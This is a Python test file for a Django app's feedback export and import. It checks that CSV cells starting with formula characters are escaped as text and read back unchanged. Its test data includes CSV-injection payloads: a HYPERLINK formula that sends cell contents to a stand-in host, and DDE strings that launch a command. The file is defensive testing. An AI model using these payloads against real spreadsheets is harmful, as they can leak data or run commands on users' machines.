"""A spreadsheet runs nothing of what is exported, and what is exported comes in again as it was."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest
from django.test import Client

from allied.domains.feedback.actions import add_feedback
from allied.domains.feedback.models import Feedback
from allied.domains.feedback.reading import VOCABULARY
from allied.domains.feedback.tests.building import imported, uploaded
from allied.kernel.importing.actions import map_import, start_import
from allied.kernel.importing.reading import choose
from allied.kernel.importing.reading.formulas import bare, guarded
from allied.kernel.jobs import runner
from allied.kernel.people.catalogue import Role
from allied.kernel.testing import make_member, product_of

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
]
PLAIN = ["The lift is out.", "-4", "-4.5", "'quoted' words", "don't", "4", "", "'", "''", "e=mc²"]
QUOTED = ["'=1+1", "''=1+1", "'@here", "'-2+3"]
DANGEROUS = tuple("=+@\t\r\n＝＋＠－")


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_formula_is_written_as_text(cell):
    assert guarded(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", PLAIN)
def test_what_is_no_formula_stays_as_it_is(cell):
    assert guarded(cell) == cell
    assert bare(cell) == cell


@pytest.mark.parametrize("cell", FORMULAS + PLAIN + QUOTED)
def test_what_is_written_is_read_back_as_it_was(cell):
    assert bare(guarded(cell)) == cell


def export(member) -> tuple[bytes, list[list[str]]]:
    client = Client()
    client.force_login(member.user)
    raw = client.get(f"/w/{member.workspace.slug}/feedback/export.csv").getvalue()
    return raw, list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def kept(member) -> list[tuple[object, ...]]:
    found = Feedback.objects.visible_to(member).order_by("text")
    return [(one.text, one.author, one.source_id, one.received_at, one.rating, one.segments) for one in found]


@pytest.mark.django_db
def test_import_export_and_import_again_give_the_same():
    one, two, three = (make_member(Role.OWNER) for _ in range(3))
    texts = [cell.strip() for cell in FORMULAS + QUOTED + PLAIN if cell.strip()]
    for number, text in enumerate(dict.fromkeys(texts)):
        add_feedback(
            text=f"{text}",
            author=f"@author{number}",
            source_id=f"=id{number}",
            received_at=datetime(2026, 5, 4, 9, 30, tzinfo=UTC),
            segments={"branch": f"+ALD {number % 2}", "plan": "'=free"},
            product=product_of(one),
            actor=one,
        )

    first, rows = export(one)
    brought_in(two, first)
    second, _ = export(two)
    brought_in(three, second)

    dangerous = [cell for row in rows for cell in row if cell.startswith(DANGEROUS)]
    assert dangerous == []
    assert len(kept(one)) > 15
    assert kept(two) == kept(one)
    assert kept(three) == kept(one)


def brought_in(member, raw: bytes) -> None:
    """Import an export, with its columns said."""
    made = uploaded(member, raw, name="feedback.csv")
    names = [column["name"] for column in made.columns]
    said = {"reference": "raw", "source": "raw", "person": "raw", "product": "raw", "method": "raw"}
    said |= {"source_id": "source_id", "received_at": "date", "author": "author", "rating": "rating", "text": "text"}
    wanted = [(said.get(name, "segment"), name) for name in names]
    mapping = choose(made.choices, names, wanted, VOCABULARY).but(day_first=True, hide_personal=False)
    start_import(map_import(made, mapping, source="Export", actor=member), actor=member)
    runner.run_all()


@pytest.mark.django_db
def test_rows_that_were_left_out_are_written_as_text_too():
    owner = make_member(Role.OWNER)
    made = imported(
        owner, 'id,=name,comment,date\n1,=1+1,Words that stay,2026-05-04\n2,"+2","@x",32/13/2026\n3,-2+3,,2026-05-04\n'
    )
    client = Client()
    client.force_login(owner.user)

    answer = client.get(f"/w/{owner.workspace.slug}/imports/{made.number}/left-out.csv")

    cells = [cell for row in csv.reader(io.StringIO(answer.getvalue().decode("utf-8-sig"))) for cell in row]
    assert "'=name" in cells
    assert not [cell for cell in cells if cell.startswith(DANGEROUS)]
